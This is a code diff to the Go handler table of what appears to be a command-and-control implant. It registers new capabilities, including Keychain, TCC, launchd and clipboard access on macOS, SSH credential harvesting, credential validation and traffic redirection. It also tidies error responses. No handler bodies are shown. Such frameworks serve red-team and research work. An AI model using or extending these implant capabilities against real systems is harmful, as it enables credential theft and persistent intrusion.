@@ -35,6 +35,7 @@ var (
 		pb.MsgTerminateReq: terminateHandler,
 		pb.MsgPing:         pingHandler,
 		pb.MsgLsReq:        dirListHandler,
+		pb.MsgSearchReq:    searchHandler,
 		pb.MsgDownloadReq:  downloadHandler,
 		pb.MsgUploadReq:    uploadHandler,
 		pb.MsgCdReq:        cdHandler,
@@ -51,11 +52,27 @@ var (
 
 		pb.MsgScreenshotReq: screenshotHandler,
 		pb.MsgNetstatReq:    netstatHandler,
+		pb.MsgPresenceReq:   presenceHandler,
+		pb.MsgSurveyReq:     surveyHandler,
 
-		pb.MsgSideloadReq: sideloadHandler,
+		pb.MsgSideloadReq:      sideloadHandler,
+		pb.MsgValidateCredsReq: validateCredsHandler,
+
+		// macOS specific
+		pb.MsgTCCReq:            tccHandler,
+		pb.MsgKeychainReq:       keychainHandler,
+		pb.MsgLaunchdReq:        launchdHandler,
+		pb.MsgConfigProfilesReq: configProfilesHandler,
+		pb.MsgClipboardReq:      clipboardHandler,
 
 		pb.MsgReconfigureReq: reconfigureHandler,
+		pb.MsgRedirectReq:    redirectHandler,
 		pb.MsgSSHCommandReq:  runSSHCommandHandler,
+		pb.MsgSSHHarvestReq:  sshHarvestHandler,
+
+		// {{if .Config.HTTPc2Enabled}}
+		pb.MsgProxySetReq: proxySetHandler,
+		// {{end}}
 
 		// Extensions
 		pb.MsgRegisterExtensionReq: registerExtensionHandler,
@@ -70,6 +87,7 @@ var (
 		pb.MsgWGStartSocksReq:     wgStartSocksHandler,
 		pb.MsgWGStopSocksReq:      wgStopSocksHandler,
 		pb.MsgWGListSocksReq:      wgListSocksServersHandler,
+		pb.MsgWGRotateKeysReq:     wgRotateKeysHandler,
 		// {{end}}
 	}
 )
@@ -96,7 +114,7 @@ func registerExtensionHandler(data []byte, resp RPCResponse) {
 		Response: &commonpb.Response{},
 	}
 	if err != nil {
-		registerResp.Response.Err = err.Error()
+		registerResp.Response = pb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(registerResp)
 	resp(data, err)
@@ -123,7 +141,7 @@ func callExtensionHandler(data []byte, resp RPCResponse) {
 	// Only send back synchronously if there was an error
 	if err != nil || !gotOutput {
 		if err != nil {
-			callResp.Response.Err = err.Error()
+			callResp.Response = pb.ErrorResponse(err)
 		}
 		data, err = proto.Marshal(callResp)
 		resp(data, err)